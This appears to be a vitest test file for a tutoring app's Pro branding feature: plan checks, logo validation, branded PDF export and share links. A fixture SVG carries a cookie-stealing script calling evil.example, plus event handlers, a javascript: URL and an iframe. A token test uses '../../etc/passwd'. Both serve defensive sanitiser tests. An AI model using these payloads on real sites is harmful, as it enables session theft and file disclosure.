import { createRequire } from 'node:module';
import path from 'node:path';
import sharp from 'sharp';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrandingResponse, ShareLink, SharedSolution, SolveResponse } from '../../../contract/src';
import { MAX_LOGO_BYTES } from '../../../contract/src';
import { subscriptions } from '../db/schema';
import { registerUser, type RegisteredUser, type TestApp } from '../../test/test-app';
import { createSolveTestApp, givePlan } from './solve-test-kit';
import { eq } from 'drizzle-orm';

const PDF_OPTIONS = { isEvalSupported: false, useSystemFonts: false, standardFontDataUrl: `${path.dirname(createRequire(import.meta.url).resolve('pdfjs-dist/package.json'))}/standard_fonts/` };

/** The text of every page of a PDF (runs of spaces made one) and its metadata, as a reader would extract them. */
async function pdfText(bytes: Buffer): Promise<{ text: string; info: Record<string, unknown> }> {
  const doc = await getDocument({ data: new Uint8Array(bytes), ...PDF_OPTIONS }).promise;
  const pages: string[] = [];
  for (let n = 1; n <= doc.numPages; n++) {
    const content = await (await doc.getPage(n)).getTextContent();
    pages.push(content.items.map((item) => ('str' in item ? item.str : '')).join(' '));
  }
  const { info } = await doc.getMetadata();
  await doc.destroy();
  return { text: pages.join('\n').replace(/[ \t]+/g, ' '), info: info as Record<string, unknown> };
}

/** How many images the first page draws. */
async function imageCount(bytes: Buffer): Promise<number> {
  const doc = await getDocument({ data: new Uint8Array(bytes), ...PDF_OPTIONS }).promise;
  const page = await doc.getPage(1);
  const ops = await page.getOperatorList();
  const { OPS } = await import('pdfjs-dist/legacy/build/pdf.mjs');
  const count = ops.fnArray.filter((fn) => fn === OPS.paintImageXObject).length;
  await doc.destroy();
  return count;
}

const dataUrl = (mime: string, bytes: Buffer | string) => `data:${mime};base64,${Buffer.from(bytes).toString('base64')}`;

const EVIL_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20" width="160" height="80" onload="alert('svg')">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <style>@import url(https://evil.example/font.css);</style>
  <a xlink:href="javascript:alert(1)"><rect width="20" height="20" fill="#0f766e"/></a>
  <image href="https://evil.example/pixel.png" width="1" height="1"/>
  <circle cx="30" cy="10" r="8" fill="#f59e0b" onclick="alert(2)" style="fill: url(https://evil.example/p.svg#x)"/>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"></iframe></foreignObject>
</svg>`;

describe('white-label: branding, logo, branded PDF and shared links', () => {
  let t: TestApp;
  let tutor: RegisteredUser;
  let basic: RegisteredUser;
  let free: RegisteredUser;
  let solved: SolveResponse;
  let png: Buffer;

  const call = (method: 'GET' | 'PUT' | 'POST' | 'DELETE', url: string, who?: RegisteredUser, payload?: Record<string, unknown>) =>
    t.app.inject({ method, url, headers: who ? { cookie: who.cookie } : {}, ...(payload ? { payload } : {}) });

  beforeAll(async () => {
    t = await createSolveTestApp();
    tutor = await registerUser(t.app, { firstName: 'Marie', lastName: 'Curie' });
    basic = await registerUser(t.app);
    free = await registerUser(t.app);
    await givePlan(t.database.db, tutor.id, 'pro');
    await givePlan(t.database.db, basic.id, 'basic');
    solved = (await call('POST', '/api/solve', tutor, { rawInput: 'x^2 - 5x + 6 = 0', inputType: 'text' })).json<SolveResponse>();
    png = await sharp({ create: { width: 120, height: 40, channels: 4, background: '#0f766e' } }).png().toBuffer();
  });
  afterAll(() => t.close());

  it('refuses Free and Basic accounts with the Pro plan message, before reading an upload', async () => {
    for (const who of [free, basic]) {
      for (const [method, url, payload] of [
        ['GET', '/api/branding', undefined],
        ['PUT', '/api/branding', { displayName: 'Tutor', accentColor: '#123456' }],
        ['PUT', '/api/branding/logo', { logoData: dataUrl('image/png', png) }],
        ['DELETE', '/api/branding', undefined],
      ] as const) {
        const response = await call(method, url, who, payload);
        expect(response.statusCode, `${method} ${url}`).toBe(403);
        expect(response.json()).toMatchObject({ code: 'planRequired', requiredPlan: 'pro', message: 'This feature needs the Pro plan. Please upgrade your plan.' });
      }
    }
    expect((await call('GET', '/api/branding')).statusCode).toBe(401);
  });

  it('saves the display name and accent colour, checking both', async () => {
    expect((await call('GET', '/api/branding', tutor)).json<BrandingResponse>()).toEqual({ branding: null });
    const bad = await call('PUT', '/api/branding', tutor, { displayName: 'Curie Tutoring', accentColor: 'teal' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json<{ code: string }>().code).toBe('accentColorInvalid');
    expect((await call('PUT', '/api/branding', tutor, { displayName: 'x'.repeat(81), accentColor: '#0f766e' })).statusCode).toBe(400);
    const saved = await call('PUT', '/api/branding', tutor, { displayName: 'Curie Tutoring', accentColor: '#0F766E' });
    expect(saved.statusCode).toBe(200);
    expect(saved.json<BrandingResponse>().branding).toMatchObject({ displayName: 'Curie Tutoring', accentColor: '#0f766e', logoUrl: null });
  });

  it('cleans a script-bearing SVG logo: no script, handler, javascript: URL or external reference is left', async () => {
    const response = await call('PUT', '/api/branding/logo', tutor, { logoData: dataUrl('image/svg+xml', EVIL_SVG) });
    expect(response.statusCode).toBe(200);
    const branding = response.json<BrandingResponse>().branding;
    expect(branding?.logoMime).toBe('image/svg+xml');
    const logo = await call('GET', branding?.logoUrl ?? '', tutor);
    expect(logo.statusCode).toBe(200);
    expect(logo.headers['content-type']).toBe('image/svg+xml');
    expect(logo.headers['content-security-policy']).toContain("default-src 'none'");
    const svg = logo.body;
    for (const banned of [/<script/i, /onload/i, /onclick/i, /javascript:/i, /evil\.example/i, /<image/i, /foreignObject/i, /<iframe/i, /@import/i]) {
      expect(svg).not.toMatch(banned);
    }
    // The drawing itself survives, and it still renders as an image.
    expect(svg).toMatch(/<rect[^>]*fill="#0f766e"/);
    expect(svg).toMatch(/<circle[^>]*fill="#f59e0b"/);
    expect((await sharp(Buffer.from(svg)).metadata()).format).toBe('svg');
  });

  it('refuses logos of another type, with a false PNG signature, or over 200 KB', async () => {
    const gif = Buffer.from('R0lGODlhAQABAAAAACw=', 'base64');
    const cases: Array<[string, number, string]> = [
      [dataUrl('image/gif', gif), 400, 'logoInvalidType'],
      [dataUrl('image/png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')), 400, 'logoInvalidType'],
      [dataUrl('image/png', Buffer.concat([Buffer.from('GIF89a'), png])), 400, 'logoInvalidType'],
      [dataUrl('image/svg+xml', png), 400, 'logoInvalidType'],
      [dataUrl('image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'), 400, 'logoUnreadable'],
      ['not a data url', 400, 'logoInvalidType'],
    ];
    for (const [logoData, status, code] of cases) {
      const response = await call('PUT', '/api/branding/logo', tutor, { logoData });
      expect(response.statusCode, logoData.slice(0, 40)).toBe(status);
      expect(response.json<{ code: string }>().code).toBe(code);
    }
    // Just over the limit, whether the bytes are a real PNG or not.
    const big = Buffer.concat([png, Buffer.alloc(MAX_LOGO_BYTES + 1 - png.length, 1)]);
    const tooLarge = await call('PUT', '/api/branding/logo', tutor, { logoData: dataUrl('image/png', big) });
    expect(tooLarge.statusCode).toBe(413);
    expect(tooLarge.json()).toMatchObject({ code: 'logoTooLarge', message: 'Please upload a logo smaller than 200 KB' });
    const huge = await t.app.inject({ method: 'PUT', url: '/api/branding/logo', headers: { cookie: tutor.cookie, 'content-type': 'application/json' }, payload: `{"logoData":"${'A'.repeat(400_000)}"}` });
    expect(huge.statusCode).toBe(413);
  });

  it('exports a PDF that carries the tutor’s name, logo and colour, and not “Stepwise”', async () => {
    expect((await call('PUT', '/api/branding/logo', tutor, { logoData: dataUrl('image/png', png) })).statusCode).toBe(200);
    const response = await call('GET', `/api/history/${solved.problemId}/export.pdf`, tutor);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).not.toMatch(/stepwise/i);
    const { text, info } = await pdfText(response.rawPayload);
    expect(text).toContain('Curie Tutoring: solution');
    expect(text).toContain('x^2 - 5x + 6 = 0');
    expect(text).not.toMatch(/stepwise/i);
    expect(JSON.stringify(info)).not.toMatch(/stepwise/i);
    expect(info.Producer).toBe('Curie Tutoring');
    expect(await imageCount(response.rawPayload)).toBe(1);
    // The accent colour (#0f766e) paints the title: 0.059 0.463 0.431 rg in the page's content.
    expect(await pdfUsesColour(response.rawPayload, [0x0f, 0x76, 0x6e])).toBe(true);
  });

  it('draws an SVG logo into the PDF as an image', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4" fill="#f59e0b"/></svg>';
    expect((await call('PUT', '/api/branding/logo', tutor, { logoData: dataUrl('image/svg+xml', svg) })).statusCode).toBe(200);
    const response = await call('GET', `/api/history/${solved.problemId}/export.pdf`, tutor);
    expect(await imageCount(response.rawPayload)).toBe(1);
  });

  it('shares a read-only link that carries the branding while the owner is Pro, and 404s once revoked', async () => {
    const created = await call('POST', '/api/share-links', tutor, { problemId: solved.problemId });
    expect(created.statusCode).toBe(201);
    const link = created.json<ShareLink>();
    expect(link.token).toMatch(/^[A-Za-z0-9_-]{32}$/);
    expect(link.path).toBe(`/s/${link.token}`);
    expect((await call('GET', `/api/share-links?problemId=${solved.problemId}`, tutor)).json<ShareLink[]>().map((l) => l.id)).toEqual([link.id]);

    const shared = await call('GET', `/api/share/${link.token}`);
    expect(shared.statusCode).toBe(200);
    const page = shared.json<SharedSolution>();
    expect(page.brand).toMatchObject({ custom: true, displayName: 'Curie Tutoring', accentColor: '#0f766e' });
    expect(page.problem.rawInput).toBe('x^2 - 5x + 6 = 0');
    expect(page.solution?.verified).toBe(true);
    expect(page.solution?.stepsJson.length).toBeGreaterThan(1);
    // Nothing of the owner's account travels with the page.
    expect(shared.body).not.toContain(tutor.email);
    expect(shared.body).not.toContain(tutor.id);
    const logo = await call('GET', page.brand.logoUrl ?? '');
    expect(logo.statusCode).toBe(200);
    expect(logo.headers['content-type']).toBe('image/svg+xml');

    // Someone else cannot revoke it; the owner can, and then it is gone for everyone.
    expect((await call('DELETE', `/api/share-links/${link.id}`, free)).statusCode).toBe(404);
    expect((await call('DELETE', `/api/share-links/${link.id}`, tutor)).statusCode).toBe(200);
    expect((await call('GET', `/api/share/${link.token}`)).statusCode).toBe(404);
    expect((await call('GET', `/api/share/${link.token}/logo`)).statusCode).toBe(404);
    expect((await call('DELETE', `/api/share-links/${link.id}`, tutor)).statusCode).toBe(404);
    expect((await call('GET', '/api/share-links', tutor)).json<ShareLink[]>()).toEqual([]);
  });

  it('shows the product’s brand on a link once the owner is no longer Pro, and on links of Free owners', async () => {
    const link = (await call('POST', '/api/share-links', tutor, { problemId: solved.problemId })).json<ShareLink>();
    await t.database.db.update(subscriptions).set({ renewsAt: new Date(Date.now() - 1000) }).where(eq(subscriptions.userId, tutor.id));
    const page = (await call('GET', `/api/share/${link.token}`)).json<SharedSolution>();
    expect(page.brand).toEqual({ custom: false, displayName: null, accentColor: null, logoUrl: null });
    expect((await call('GET', `/api/share/${link.token}/logo`)).statusCode).toBe(404);
    // The export is Pro-only anyway; the branding is kept for when the plan comes back.
    await givePlan(t.database.db, tutor.id, 'pro');
    expect((await call('GET', `/api/share/${link.token}`)).json<SharedSolution>().brand.custom).toBe(true);

    const own = (await call('POST', '/api/solve', free, { rawInput: '3x = 12', inputType: 'text' })).json<SolveResponse>();
    expect((await call('POST', '/api/share-links', free, { problemId: solved.problemId })).statusCode).toBe(404);
    const freeLink = (await call('POST', '/api/share-links', free, { problemId: own.problemId })).json<ShareLink>();
    expect((await call('GET', `/api/share/${freeLink.token}`)).json<SharedSolution>().brand.custom).toBe(false);
  });

  it('answers unknown and malformed tokens with 404', async () => {
    for (const token of ['A'.repeat(32), 'short', '../../etc/passwd']) {
      expect((await call('GET', `/api/share/${encodeURIComponent(token)}`)).statusCode).toBe(404);
    }
  });

  it('removes the branding: exports carry the product’s name again', async () => {
    expect((await call('DELETE', '/api/branding', tutor)).statusCode).toBe(200);
    expect((await call('GET', '/api/branding', tutor)).json<BrandingResponse>()).toEqual({ branding: null });
    const { text } = await pdfText((await call('GET', `/api/history/${solved.problemId}/export.pdf`, tutor)).rawPayload);
    expect(text).toContain('Stepwise: solution');
  });
});

/** Whether the first page's content stream sets this fill colour (pdf-lib writes `r g b rg`). */
async function pdfUsesColour(bytes: Buffer, [r, g, b]: [number, number, number]): Promise<boolean> {
  const { PDFDocument, PDFRawStream, decodePDFRawStream } = await import('pdf-lib');
  const doc = await PDFDocument.load(bytes);
  const wanted = [r, g, b].map((c) => c / 255);
  for (const [, object] of doc.context.enumerateIndirectObjects()) {
    if (!(object instanceof PDFRawStream)) continue;
    const content = Buffer.from(decodePDFRawStream(object).decode()).toString('latin1');
    for (const match of content.matchAll(/([\d.]+) ([\d.]+) ([\d.]+) rg/g)) {
      if ([1, 2, 3].every((i) => Math.abs(Number(match[i]) - wanted[i - 1]) < 0.002)) return true;
    }
  }
  return false;
}
